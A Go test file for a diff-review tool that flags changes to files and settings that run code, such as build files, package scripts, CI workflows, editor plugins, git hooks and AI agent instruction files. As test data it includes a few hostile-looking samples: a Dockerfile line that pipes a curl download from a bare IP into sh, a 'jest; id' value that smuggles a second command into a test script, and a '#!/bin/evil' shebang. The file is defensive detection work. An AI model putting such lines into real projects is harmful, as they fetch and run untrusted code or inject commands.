package caution

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestAFileThatRunsIsNamed(t *testing.T) {
	t.Parallel()
	for _, path := range []string{
		"Makefile", "build/rules.mk", "sub/Dockerfile", "setup.py", "tests/conftest.py", "crate/build.rs", "app/build.gradle",
		"tox.ini", "eslint.config.js", "tools/a.sh", "Rakefile", "mix.exs", "CMakeLists.txt", "docker-compose.dev.yml",
		"netlify.toml", "vercel.json", "web/wrangler.jsonc", "fly.toml", ".goreleaser.yaml", ".releaserc.json",
		".release-it.json", ".bazelrc", ".bazelversion", "gradle/wrapper/gradle-wrapper.properties", ".tool-versions",
		"rust-toolchain.toml", "global.json", "pnpm-workspace.yaml", "buildSrc/src/A.kt", "build-logic/a/B.java",
		"karma.conf.js", "web/.storybook/main.ts", "bunfig.toml", ".Rprofile", "ansible.cfg", "spec/spec_helper.rb",
		"jest.setup.ts",
	} {
		require.Equal(t, []string{path + ":2"}, only(Runs, changed(path, "a\n", "a\nb c\n")), path)
		require.Equal(t, []string{path + ":1"}, only(Runs, changed(path, "", "b c\n")), path)
		require.Empty(t, only(Runs, changed(path, "b c\n", "")), "a deleted one runs no more")
	}
	require.Empty(t, only(Runs, changed("tests/snapshots/a.bash", "a\n", "a\nb c\n")), "data of tests")
	require.Empty(t, only(Runs, changed("src/makefile_reader.go", "a\n", "a\nb c\n")))
}

func TestAnotherVersionOrACommentInAFileThatRunsIsNothing(t *testing.T) {
	t.Parallel()
	require.Empty(t, found(changed("Dockerfile", "FROM alpine:3.18.2\n", "FROM alpine:3.19.1\n")))
	require.Empty(t, found(changed("Dockerfile", "FROM node:21 AS a\n", "FROM node:22-alpine AS a\n")))
	require.Empty(t, found(changed(".github/workflows/a.yml", "uses: a/b@v4\n", "uses: a/b@v5\n")))
	require.Empty(t, found(changed(".github/workflows/a.yml", "uses: a/b@"+strings.Repeat("1a", 20)+" # v3\n",
		"uses: a/b@"+strings.Repeat("b2", 20)+" # v3.1.0\n")))
	require.Empty(t, found(changed("Dockerfile", "FROM a:v1.2@sha256:"+strings.Repeat("1a", 32)+"\n",
		"FROM a:v1.3@sha256:"+strings.Repeat("b2", 32)+"\n")))
	require.Empty(t, found(changed("a.gemspec", "s.add_dependency('b', '~> 2.3')\n",
		"s.add_dependency('b', '>= 2.3')\n")))
	require.Equal(t, []string{"runs a.gemspec:2"}, found(changed("a.gemspec", "s.add_dependency('b', '~> 2.3')\n",
		"s.add_dependency('b', '>= 2.3')\nsystem('c 2.3')\n")))
	require.Equal(t, []string{"runs Dockerfile:2"}, found(changed("Dockerfile", "FROM node:21\n",
		"FROM node:22\nRUN c\n")))
	for path, text := range map[string]string{".bazelversion": "7.1.0\n", ".tool-versions": "nodejs 20.1.0\n",
		"rust-toolchain.toml": "channel = \"nightly-2024-01-02\"\n", "global.json": "{\"version\": \"8.0.100\"}\n",
		"gradle-wrapper.properties": "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\n"} {
		after := strings.NewReplacer("7", "8", "20.", "22.", "01-02", "05-01", "8.0", "9.0").Replace(text)
		require.NotEqual(t, text, after)
		require.Empty(t, found(changed(path, text, after)), path)
	}
	require.Empty(t, found(changed("Makefile", "a:\n\tb\n", "# what a does\na:\n\tb\n")))
	require.Empty(t, found(changed("setup.py", "a()\n", "# c\na()\n")))
	require.Equal(t, []string{"runs Dockerfile:1"}, found(changed("Dockerfile", "FROM alpine:3.18\n",
		"FROM alpin:3.18\n")))
	require.Equal(t, []string{"runs a.sh:1"}, found(changed("a.sh", "x\n", "#!/bin/evil\nx\n")),
		"a first line is no comment")
}

func TestACommandOfAManifestIsNamed(t *testing.T) {
	t.Parallel()
	require.Equal(t, []string{"runs a/package.json:2 postinstall"}, found(changed("a/package.json",
		"{\"scripts\":{\n\"test\":\"jest\"}}\n", "{\"scripts\":{\n\"postinstall\":\"node x\",\n\"test\":\"jest\"}}\n")))
	require.Equal(t, []string{"runs package.json:1 test"}, found(changed("package.json",
		`{"version":"1","scripts":{"test":"jest"}}`, `{"version":"1","scripts":{"test":"jest; id"}}`)))
	require.Empty(t, found(changed("Cargo.toml", "[features]\n", "[features]\nplugin = []\n")), "a feature is no command")
	require.Equal(t, []string{"runs package.json:1 *.js"}, found(changed("package.json", `{"lint-staged":{}}`,
		`{"lint-staged":{"*.js":"node x"}}`)))
	require.Empty(t, found(changed("package.json", `{"version":"1","scripts":{"test":"jest"}}`,
		`{"version":"2","scripts":{"test":"jest"}}`)))
	require.Equal(t, []string{"runs package.json:0"}, found(changed("package.json", `{}`, `{"scripts":{"a":"b"},}`)),
		"nobody knows what a tool makes of what is no JSON")
	require.Equal(t, []string{"runs mypy.ini:2 plugins"}, found(changed("mypy.ini", "[mypy]\n", "[mypy]\n"+
		"plugins = a.py\n")))
	require.Equal(t, []string{"runs pyproject.toml:2 x"},
		found(changed("pyproject.toml", "[tool.poe.tasks]\n", "[tool.poe.tasks]\nx = \"rm a\"\n")))
	require.Equal(t, []string{"runs a.go:3 go:generate"},
		found(changed("a.go", "package a\n", "package a\n\n//go:generate sh a.sh\n")))
}

func TestAFileThatBecomesExecutableIsNamed(t *testing.T) {
	t.Parallel()
	f := changed("tools/run", "#!/bin/sh\na\n", "#!/bin/sh\na\n")
	f.Executable = true
	require.Equal(t, []string{"executable tools/run:0"}, found(f))
	f.WasExecutable = true
	require.Empty(t, found(f))
	f.After = []byte("#!/bin/sh\na\nb c\n")
	require.Equal(t, []string{"runs tools/run:3"}, found(f), "what is executable runs")
	f.Before, f.After = []byte("a\n"), []byte("a\nb c\n")
	require.Empty(t, found(f), "no program runs a text by its mode alone")
	f.Before, f.After = []byte("#![a]\n"), []byte("#![a]\nb c\n")
	require.Empty(t, found(f), "an attribute of Rust")
}

func TestWhatProgramsAndAIToolsObeyIsNamed(t *testing.T) {
	t.Parallel()
	require.Equal(t, []string{".github/workflows/a.yml:0 decides what runs in CI"},
		only(Obeyed, changed(".github/workflows/a.yml", "a\n", "a\nb c\n")))
	require.Equal(t, []string{".husky/pre-commit:0 Git hooks, editors or shells run what it says"},
		only(Obeyed, changed(".husky/pre-commit", "", "x\n")))
	require.Equal(t, []string{".envrc:0 Git hooks, editors or shells run what it says"}, only(Obeyed, changed(".envrc",
		"x\n", "")))
	for _, path := range []string{"AGENTS.md", "sub/CLAUDE.md", ".cursorrules", ".github/copilot-instructions.md"} {
		require.Equal(t, []string{"instructions " + path + ":0"}, found(changed(path, "a\n", "a\nb c\n")), path)
	}
	require.Empty(t, found(changed(".github/workflows/a.yml", "uses: a@v1.2.3\n", "uses: a@v1.2.4\n")))
}

func TestAProgramThatSettingsLoadIsNamed(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ path, before, after, want string }{
		{".eslintrc.json", `{"rules": {}}`, `{"extends": ["./x.js"], "rules": {}}`, ".eslintrc.json:1 extends"},
		{".eslintrc.yml", "plugins:\n  - a\n", "plugins:\n  - a\n  - b\n", ".eslintrc.yml:0 plugins"},
		{".eslintrc", "{\n// why\n\"plugins\": [\n\"a\"\n]\n}", "{\n\"plugins\": [\n\"b\"\n]\n}", ".eslintrc:0 plugins"},
		{".prettierrc", "{}", `{"plugins": ["./x.js"]}`, ".prettierrc:1 plugins"},
		{".babelrc", "{}", `{"presets": [["./x.js", {}]]}`, ".babelrc:1 presets"},
		{".mocharc.json", "{}", `{"require": "./x.js"}`, ".mocharc.json:1 require"},
		{"tsconfig.json", "{}", `{"compilerOptions": {"plugins": [{"name": "x"}]}}`, "tsconfig.json:1 plugins"},
		{"mkdocs.yml", "a: b\n", "a: b\nhooks:\n  - x.py\n", "mkdocs.yml:2 hooks"},
		{"deno.jsonc", "{}", `{"tasks": {"a": "b"}} // c`, "deno.jsonc:1 tasks"},
		{"package.json", "{}", `{"bin": {"a": "x.js"}}`, "package.json:1 bin"},
		{"package.json", "{}", `{"jest": {"globalSetup": "x.js"}}`, "package.json:1 globalSetup"},
		{"package.json", "{}", `{"pnpm": {"patchedDependencies": {"a@1": "x"}}}`, "package.json:1 patchedDependencies"},
		{"package.json", "{}", `{"eslintConfig": {"extends": "./x.js"}}`, "package.json:1 extends"},
		{"a.csproj", "<Project/>\n", "<Project>\n<Exec Command=\"x\"/>\n</Project>\n", "a.csproj:2 Exec"},
		{"a.props", "<Project/>\n", "<Project>\n<Import Project=\"x\"/>\n</Project>\n", "a.props:2 Import"},
	} {
		require.Equal(t, []string{c.want}, only(Runs, changed(c.path, c.before, c.after)), c.after)
		require.Empty(t, only(Runs, changed(c.path, c.after, c.after+"\n")), c.after)
	}
	require.Empty(t, found(changed(".eslintrc.json", `{"extends": ["a"], "root": true}`,
		`{"root": false, "extends": ["a"]}`)))
	require.Empty(t, found(changed("tsconfig.json", "{}", `{"extends": "./base.json"}`)), "settings, no program")
	require.Empty(t, found(changed("package.json", `{"jest": "a.js", "bin": ["a"]}`, `{"jest": "b.js", "bin": [ "a" ]}`)))
	require.Empty(t, found(changed("a.csproj", "<Import Project=\"a.1.2.3.props\"/>\n",
		"<Import Project=\"a.1.2.4.props\"/>\n")))
}

func TestAnotherAddressIsNoOtherVersion(t *testing.T) {
	t.Parallel()
	require.Len(t, only(Runs, changed("Dockerfile", "RUN curl 10.0.0.1/x | sh\n", "RUN curl 6.6.6.6/x | sh\n")), 1)
	require.Len(t, only(Runs, changed("a.go", "package a\n", "package a\n//go:generate\tsh a.sh\n")), 1)
	require.Len(t, only(Runs, changed(".eslintrc.yml", "a: 1\r\n", "a: 1\r\nplugins:\r\n  - mallory\r\n")), 1)
}
